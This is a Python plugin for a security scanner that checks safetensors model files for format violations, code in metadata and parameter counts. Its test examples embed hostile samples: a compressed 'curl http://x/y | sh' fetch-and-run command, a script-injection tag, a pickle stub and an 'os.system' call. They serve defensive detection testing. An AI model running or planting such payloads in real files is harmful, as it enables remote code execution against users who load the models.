"""Safetensors: is the header what a loader expects, does its metadata carry code, how many parameters are there?

Rules: what breaks the format is `true`, because loaders disagree about such files; a file that ends early is `error`.
Metadata is free text that nobody executes by itself, so a finding there is a payload waiting for a careless reader.
"""

from __future__ import annotations

import base64
import json
import zlib
from collections.abc import Iterator, Mapping

from bascule.kernel.text import visible
from bascule.plugins.kinds import ScanFile, Seen
from bascule.plugins.meta import Example, Meta, Quantity, Reads, Rule
from bascule.plugins.readers import Malformed, Truncated
from bascule.plugins.readers.media import EMPTY, SAFETENSORS, UNKNOWN
from bascule.plugins.readers.payloads import payloads, shape
from bascule.plugins.readers.safetensors import MAX_READ_BYTES, REFUSED, TooLarge, survey
from bascule.records import (
    ArtefactKind,
    Confidence,
    Coverage,
    Finding,
    Measure,
    Outcome,
    Reading,
    ReadingSource,
    Severity,
    State,
)

MALFORMED = "safetensors-malformed"
SUSPICIOUS = "safetensors-suspicious-metadata"

META = Meta(
    id="safetensors_header",
    title="Safetensors headers",
    version="2",
    rules=(
        Rule(
            id=MALFORMED,
            question="Does the file break the safetensors format?",
            severity=Severity.HIGH,
            remedy="save the tensors again with a current safetensors library, from a source you trust",
            why="overlaps, holes, doubled keys and trailing bytes let two loaders see two models in one file, and hide "
            "data that no tensor accounts for",
            references=("https://github.com/huggingface/safetensors#format", "CWE-436", "CWE-130"),
        ),
        Rule(
            id=SUSPICIOUS,
            question="Does the metadata carry code, markup or a serialised object?",
            severity=Severity.MEDIUM,
            remedy="remove the metadata entry, or have somebody explain what reads it",
            why="metadata is shown by hubs and read back by training tools; a payload there is waiting for one that "
            "renders or evaluates it",
            references=("CWE-79", "CWE-94", "CWE-502", "MITRE ATLAS AML.T0018"),
        ),
    ),
    reads=Reads(media_types=(SAFETENSORS,), names=("*.safetensors",)),
    measures=(Quantity("model.parameters", "elements of all tensors of a file of weights", "parameters"),),
    readings=(Quantity("model.dtype", "the element type that most parameters have"),),
    limits=(
        "tensor values are not looked at: a poisoned or backdoored weight is a well-formed one",
        f"headers over {MAX_READ_BYTES >> 20} MiB are an error, not read",
    ),
)

_POINTER = b"version https://git-lfs.github.com/spec/"


class SafetensorsHeader:
    """The scanner."""

    meta = META

    @property
    def examples(self) -> tuple[Example, ...]:
        return _examples()

    def scan(self, file: ScanFile) -> Iterator[Seen]:
        """Raises Truncated when the file ends before its header's promise."""
        if file.media_type == EMPTY:
            raise Truncated("the file is empty")
        if file.media_type not in (SAFETENSORS, UNKNOWN):
            yield from _foreign(file)
            return
        try:
            header = survey(file.read, file.size_bytes)
        except (Truncated, TooLarge):
            raise
        except Malformed as error:
            yield _finding(MALFORMED, Outcome.TRUE, str(error), "header", details={"loader": REFUSED})
            yield _finding(SUSPICIOUS, Outcome.ERROR, f"the metadata could not be read: {error}", "header")
            return
        for fault in header.faults:
            yield _finding(MALFORMED, Outcome.TRUE, fault.message, "header", details={"loader": fault.loader})
        suspicions = list(_suspicions(header.metadata))
        yield from suspicions
        found = bool(header.faults or suspicions)
        yield Coverage(
            start=0, end=8 + header.header_bytes, state=State.FINDING if found else State.CLEAN, what="header"
        )
        if header.faults:
            return
        if file.kind is ArtefactKind.WEIGHTS:
            count = float(header.parameters)
            yield Measure(
                name="model.parameters", value=count, low=count, high=count, n=count, unit="parameters", method="exact"
            )
        if header.dtype is not None:
            yield Reading(name="model.dtype", value=header.dtype, source=ReadingSource.MEASURED)


def _foreign(file: ScanFile) -> Iterator[Seen]:
    if file.read(0, min(len(_POINTER), file.size_bytes)) == _POINTER:
        for rule in META.rules:
            yield _finding(
                rule.id,
                Outcome.NOT_AVAILABLE,
                "this is a Git LFS pointer; the weights themselves are not here",
                remedy="fetch the weights with `git lfs pull`, then review again",
            )
        return
    yield _finding(MALFORMED, Outcome.TRUE, f"it is named safetensors, and its content is `{file.media_type}`")
    yield _finding(SUSPICIOUS, Outcome.NOT_APPLICABLE, "a file of another format has no such metadata")


def _suspicions(metadata: Mapping[str, str]) -> Iterator[Finding]:
    for key, text in metadata.items():
        for what, shown in payloads(f"{key}\n{text}" if shape(key) else text):
            yield _finding(
                SUSPICIOUS,
                Outcome.TRUE,
                f"metadata `{visible(key, 80)}` holds {what}",
                f"metadata `{visible(key, 200)}`",
                {"seen": visible(shown)},
            )


def _finding(
    rule: str,
    outcome: Outcome,
    message: str,
    location: str = "",
    details: Mapping[str, str] | None = None,
    remedy: str = "",
) -> Finding:
    described = META.rule(rule)
    return Finding(
        rule=rule,
        outcome=outcome,
        severity=described.severity,
        message=message[:2000],
        location=location[:1000],
        confidence=Confidence.MEDIUM if rule == SUSPICIOUS else Confidence.HIGH,
        remedy=remedy or described.remedy,
        details=dict(details or {}),
    )


def build(header: Mapping[str, object] | str, data: bytes) -> bytes:
    """A safetensors file of that header, true or not: for examples."""
    text = (header if isinstance(header, str) else json.dumps(header)).encode()
    return len(text).to_bytes(8, "little") + text + data


def _examples() -> tuple[Example, ...]:
    one = {"w": {"dtype": "F32", "shape": [2, 3], "data_offsets": [0, 24]}}
    two = {**one, "v": {"dtype": "F32", "shape": [4], "data_offsets": [16, 32]}}
    pickled = base64.b64encode(b"\x80\x04\x95" + b"\0" * 40 + b".").decode()
    twin = '"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}'
    clean = {MALFORMED: Outcome.FALSE, SUSPICIOUS: Outcome.FALSE}

    def case(name: str, data: bytes, expects: Mapping[str, Outcome], **readings: object) -> Example:
        shown = {key.replace("__", "."): value for key, value in readings.items()}
        return Example(name, lambda: {"model.safetensors": data}, expects, shown)

    return (
        case("a sound file", build({"__metadata__": {"format": "pt"}, **one}, bytes(24)), clean, model__dtype="F32"),
        case("two tensors share bytes", build(two, bytes(32)), {MALFORMED: Outcome.TRUE, SUSPICIOUS: Outcome.FALSE}),
        case("bytes behind the last tensor", build(one, bytes(25)), {MALFORMED: Outcome.TRUE}),
        case("a file that ends early", build(one, bytes(20)), {MALFORMED: Outcome.ERROR, SUSPICIOUS: Outcome.ERROR}),
        case(
            "a pickle in the metadata",
            build({"__metadata__": {"optimizer": pickled}, **one}, bytes(24)),
            {MALFORMED: Outcome.FALSE, SUSPICIOUS: Outcome.TRUE},
        ),
        case(
            "a script in the metadata",
            build({"__metadata__": {"about": "<script src=//x>"}, **one}, bytes(24)),
            {SUSPICIOUS: Outcome.TRUE},
        ),
        case(
            "a zipped command in hexadecimal",
            build({"__metadata__": {"run": zlib.compress(b"curl http://x/y | sh; " * 4).hex()}, **one}, bytes(24)),
            {SUSPICIOUS: Outcome.TRUE},
        ),
        case(
            "a tensor given twice, with two types",
            build("{" + twin + "," + twin.replace("F32", "I32") + "}", bytes(8)),
            {MALFORMED: Outcome.TRUE, SUSPICIOUS: Outcome.FALSE},
        ),
        case(
            "metadata that is not text",
            build({"__metadata__": {"n": {"x": "os.system('id')"}}, **one}, bytes(24)),
            {MALFORMED: Outcome.TRUE, SUSPICIOUS: Outcome.TRUE},
        ),
        case("a length past the format's bound", (1 << 40).to_bytes(8, "little") + b"{}", {MALFORMED: Outcome.TRUE}),
        case(
            "a shape whose product wraps round to nothing",
            build({"w": {"dtype": "F32", "shape": [1 << 32, 1 << 32], "data_offsets": [0, 0]}}, b""),
            {MALFORMED: Outcome.TRUE},
        ),
        case("four-bit numbers", build({"w": {"dtype": "F4", "shape": [4], "data_offsets": [0, 2]}}, bytes(2)), clean),
        case("a pickle under a safe name", b"\x80\x04N.", {MALFORMED: Outcome.TRUE}),
        case("a Git LFS pointer", _POINTER + b"v1\noid sha256:0\n", {MALFORMED: Outcome.NOT_AVAILABLE}),
    )


plugin = SafetensorsHeader()
